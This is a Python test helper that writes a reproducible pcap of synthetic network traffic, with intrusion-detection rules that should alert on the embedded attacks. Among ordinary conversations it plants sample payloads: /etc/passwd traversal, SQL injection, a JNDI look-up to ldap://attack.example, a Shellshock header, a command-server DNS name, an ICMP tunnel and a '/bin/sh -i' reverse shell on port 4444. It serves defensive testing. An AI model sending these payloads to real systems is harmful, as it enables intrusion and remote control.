"""Attack traffic of the test's own: whole conversations, each with its own addresses and ports.

Among harmless requests, answers, look-ups and echoes are requests and look-ups that RULES alert at. What is
written depends on the numbers given alone, so that a file can be made again.
"""

import random
import struct

RULES = """\
alert http any any -> any any (msg:"file of passwords"; flow:established,to_server; http.uri; content:"/etc/passwd"; sid:1000001; rev:1;)
alert http any any -> any any (msg:"SQL injection"; flow:established,to_server; http.uri; content:"union"; nocase; content:"select"; nocase; distance:1; sid:1000002; rev:1;)
alert http any any -> any any (msg:"JNDI look-up"; flow:established,to_server; http.user_agent; content:"${jndi:"; sid:1000003; rev:1;)
alert http any any -> any any (msg:"shell by CGI"; flow:established,to_server; http.header; content:"() {"; sid:1000004; rev:1;)
alert http any any -> any any (msg:"answer of a shell"; flow:established,to_client; file_data; content:"uid=0(root)"; sid:1000005; rev:1;)
alert dns any any -> any any (msg:"name of a command server"; dns.query; content:"c2.attack.example"; sid:1000006; rev:1;)
alert icmp any any -> any any (msg:"tunnel in echoes"; itype:8; content:"TUNNEL"; sid:1000007; rev:1;)
alert tcp any any -> any 4444 (msg:"reverse shell"; flow:established,to_server; content:"/bin/sh -i"; sid:1000008; rev:1;)
"""

CLIENT_MAC = bytes.fromhex("020000000001")
SERVER_MAC = bytes.fromhex("020000000099")
FIN, SYN, PSH, ACK = 1, 2, 8, 16


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frame(source, destination, protocol, payload, number):
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number & 0xffff, 0x4000, 64, protocol, 0,
                         source, destination)
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return SERVER_MAC + CLIENT_MAC + b"\x08\0" + header + payload


def transport(source, destination, protocol, head, place, data):
    """With the checksum, which stands at `place`."""
    pseudo = source + destination + struct.pack(">BBH", 0, protocol, len(head) + len(data))
    value = checksum(pseudo + head + data)
    return head[:place] + struct.pack(">H", value) + head[place + 2:] + data


class Conversation:
    """TCP segments in order, both ways."""

    def __init__(self, number, port, rng):
        self.ends = (bytes([10, 20, number >> 8 & 255, number & 255]), bytes([10, 30, rng.randrange(4), 1 + rng.randrange(250)]))
        self.ports = (1024 + rng.randrange(60000), port)
        self.next = [rng.randrange(1 << 32), rng.randrange(1 << 32)]
        self.frames, self.number = [], 0
        self.send(0, SYN)
        self.send(1, SYN | ACK)
        self.send(0, ACK)

    def send(self, side, flags, data=b""):
        head = struct.pack(">HHIIBBHHH", self.ports[side], self.ports[1 - side], self.next[side],
                           self.next[1 - side] if flags & ACK else 0, 5 << 4, flags, 65000, 0, 0)
        source, destination = self.ends[side], self.ends[1 - side]
        packet = transport(source, destination, 6, head, 16, data)
        self.number += 1
        self.frames.append(frame(source, destination, 6, packet, self.number))
        self.next[side] = (self.next[side] + len(data) + (1 if flags & (SYN | FIN) else 0)) % (1 << 32)

    def say(self, side, data):
        for at in range(0, len(data), 1400):
            self.send(side, PSH | ACK, data[at:at + 1400])
        self.send(1 - side, ACK)

    def end(self):
        self.send(0, FIN | ACK)
        self.send(1, FIN | ACK)
        self.send(0, ACK)
        return self.frames


def request(uri, agent="Mozilla/5.0", more=""):
    return f"GET {uri} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: {agent}\r\n{more}\r\n".encode()


def answer(body):
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def http(number, rng, kind):
    page = b"<p>" + bytes([97 + rng.randrange(26)]) * rng.randrange(200, 4000) + b"</p>"
    asked, answered = {
        "passwords": (request("/show?file=../../../etc/passwd"), answer(page)),
        "sql": (request("/list?id=1+UNION+ALL+SELECT+name"), answer(page)),
        "jndi": (request("/", agent="${jndi:ldap://attack.example/a}"), answer(page)),
        "cgi": (request("/cgi-bin/status", more="Referer: () { :; }; echo\r\n"), answer(page)),
        "root": (request("/run?c=id"), answer(b"uid=0(root) gid=0(root)\n" + page)),
    }.get(kind, (request(f"/page/{number}"), answer(page)))
    talk = Conversation(number, 80, rng)
    talk.say(0, asked)
    talk.say(1, answered)
    return talk.end()


def shell(number, rng):
    talk = Conversation(number, 4444, rng)
    talk.say(0, b"/bin/sh -i\n")
    talk.say(1, b"$ ")
    return talk.end()


def dns(number, rng, name):
    ends = bytes([10, 20, number >> 8 & 255, number & 255]), bytes([10, 30, 9, 53])
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    data = struct.pack(">HHHHHH", rng.randrange(1 << 16), 0x0100, 1, 0, 0, 0) + question
    head = struct.pack(">HHHH", 1024 + rng.randrange(60000), 53, 8 + len(data), 0)
    return [frame(*ends, 17, transport(*ends, 17, head, 6, data), number)]


def echo(number, rng, data):
    ends = bytes([10, 20, number >> 8 & 255, number & 255]), bytes([10, 30, 8, 1])
    message = struct.pack(">BBHHH", 8, 0, 0, rng.randrange(1 << 16), 1) + data
    return [frame(*ends, 1, message[:2] + struct.pack(">H", checksum(message)) + message[4:], number)]


ATTACKS = ["passwords", "sql", "jndi", "cgi", "root", "c2", "tunnel", "shell"]


def conversation(number, rng, attacks):
    """One in so many is an attack, of each kind in turn."""
    kind = ATTACKS[number // attacks % len(ATTACKS)] if number % attacks == 0 else rng.choice(["page"] * 6 + ["name", "echo"])
    if kind in ("c2", "name"):
        return dns(number, rng, "x1.c2.attack.example" if kind == "c2" else f"www{number}.shop.example")
    if kind in ("tunnel", "echo"):
        return echo(number, rng, b"TUNNEL data" if kind == "tunnel" else bytes(56))
    if kind == "shell":
        return shell(number, rng)
    return http(number, rng, kind)


def write(path, conversations, attacks=25, seed=1, together=200):
    """Writes a pcap file in which so many conversations go on at a time; how many packets it has."""
    rng = random.Random(seed)
    packets = 0
    with open(path, "wb") as out:
        out.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        waiting = iter(range(conversations))
        going = []
        while True:
            while len(going) < together and (number := next(waiting, None)) is not None:
                going.append(iter(conversation(number, rng, attacks)))
            if not going:
                return packets
            place = rng.randrange(len(going))
            packet = next(going[place], None)
            if packet is None:
                going[place] = going[-1]
                going.pop()
                continue
            # 10 µs apart; a replay has its own pace.
            out.write(struct.pack("<IIII", 1 + packets // 100_000, packets % 100_000 * 10, len(packet), len(packet)) + packet)
            packets += 1
